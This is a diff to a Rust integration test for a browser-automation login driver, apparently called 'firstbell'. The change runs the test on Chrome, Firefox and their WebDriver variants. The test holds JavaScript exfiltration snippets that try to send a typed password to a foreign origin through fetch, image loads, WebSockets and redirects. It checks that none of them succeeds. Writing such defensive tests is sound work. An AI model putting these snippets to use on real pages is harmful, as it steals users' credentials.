@@ -2,11 +2,12 @@
 //! address, and nothing goes anywhere else.
 #![expect(clippy::unwrap_used, reason = "a test that cannot go on has failed")]
 
+mod support;
+
 use std::io::{BufRead, BufReader, Read, Write};
 use std::net::{TcpListener, TcpStream};
 use std::sync::{Arc, Mutex};
 
-use firstbell::drivers::{DriverConfig, DriverName};
 use firstbell::http::HyperHttp;
 use firstbell::ports::{Driver, Engines};
 use firstbell_core::broker::{App, Broker};
@@ -16,6 +17,8 @@ use firstbell_core::origin::Origin;
 use firstbell_core::plan::{PageKind, Step};
 use firstbell_core::secret::Secret;
 use firstbell_core::sight::{Action, Fill, Seen};
+
+use support::engines::{self, Engine};
 
 const PASSWORD: &str = "typedSecret7";
 
@@ -75,7 +78,7 @@ fn page(attack: &str) -> String {
 }
 
 /// Types into the hostile page, and watches until it is over or nothing happens any more.
-async fn walk(site: &str) -> Seen {
+async fn walk(engine: Engine, site: &str) -> Seen {
     let site = Origin::parse(site).unwrap();
     let kite = Kite::rehearsal(site.clone(), site.clone()).unwrap();
     let app = App {
@@ -83,7 +86,7 @@ async fn walk(site: &str) -> Seen {
         user_id: "AB1234".into(),
         redirect: "https://example.org/".parse().unwrap(),
     };
-    let (config, http) = (DriverConfig::only(DriverName::Chrome), HyperHttp::unconnected());
+    let (config, http) = (engines::config(engine), HyperHttp::unconnected());
     let mut driver = config.open(config.names()[0], kite.plan(), &app, &http).await.unwrap();
     let mut action = Action::Open { url: kite.entry(&app), wait_ms: 20_000 };
     loop {
@@ -119,18 +122,36 @@ async fn after_the_fill(driver: &mut dyn Driver, kite: &Kite) -> Seen {
 }
 
 /// Runs one attack; gives what the driver saw in the end, and every request that carried the password.
-async fn attack(script: &str) -> (Seen, Vec<String>) {
+async fn attack(engine: Engine, script: &str) -> (Seen, Vec<String>) {
     let (elsewhere, foreign) = serve("127.0.0.2", "<p>elsewhere</p>");
     let (site, own) = serve("127.0.0.1", &page(&script.replace("ELSEWHERE", &elsewhere)));
-    let seen = walk(&site).await;
+    let seen = walk(engine, &site).await;
     let all = [own.lock().unwrap().clone(), foreign.lock().unwrap().clone()].concat();
     let foreign = foreign.lock().unwrap().clone();
     assert!(foreign.is_empty(), "{script}: another origin was reached: {foreign:?}");
     (seen, all.into_iter().filter(|request| request.contains(PASSWORD)).collect())
 }
 
-#[tokio::test]
-async fn nothing_leaves_but_by_the_plan_s_own_request() {
+/// One test for each browser engine.
+macro_rules! engines {
+    ($($name:ident: $engine:ident),*) => {$(
+        mod $name {
+            #[tokio::test]
+            async fn nothing_leaves_but_by_the_plan_s_own_request() {
+                super::nothing_leaves(super::engines::$engine).await;
+            }
+
+            #[tokio::test]
+            async fn of_many_submissions_one_leaves() {
+                super::one_leaves(super::engines::$engine).await;
+            }
+        }
+    )*};
+}
+
+engines!(chrome: CHROME, firefox: FIREFOX, chromedriver: CHROMEDRIVER, geckodriver: GECKODRIVER);
+
+async fn nothing_leaves(engine: Engine) {
     for script in [
         "fetch('/api/v2/session', {method: 'POST', body: pw()}); setTimeout(() => location = '/blocked?' + pw(), 50);",
         "for (let i = 0; i < 5; i++) fetch('/api/login', {method: 'PUT', body: pw()});",
@@ -146,7 +167,7 @@ async fn nothing_leaves_but_by_the_plan_s_own_request() {
         "new Image().src = 'ELSEWHERE/?' + pw(); new WebSocket('ELSEWHERE/?'.replace('http', 'ws') + pw());",
         "location = 'ELSEWHERE/?' + pw();",
     ] {
-        let (seen, carried) = attack(script).await;
+        let (seen, carried) = attack(engine, script).await;
         assert!(carried.is_empty(), "{script}\nlet {carried:?} leave");
         let told = match &seen {
             Seen::Untyped { .. } | Seen::Away(_) => true,
@@ -157,13 +178,12 @@ async fn nothing_leaves_but_by_the_plan_s_own_request() {
     }
 }
 
-#[tokio::test]
-async fn of_many_submissions_one_leaves() {
+async fn one_leaves(engine: Engine) {
     let many =
         "for (let i = 0; i < 5; i++) fetch('/api/login', {method: 'POST', body: pw()}).catch(() => {});";
     let again = "const go = () => fetch('/api/login', {method: 'POST', body: pw()}).then(go, go); go();";
     for script in [many, again] {
-        let (seen, carried) = attack(script).await;
+        let (seen, carried) = attack(engine, script).await;
         assert_eq!(carried.len(), 1, "{script}\nlet {carried:?} leave");
         assert!(carried[0].starts_with("POST /api/login "), "{carried:?}");
         assert!(matches!(seen, Seen::Unchanged), "{seen:?}");
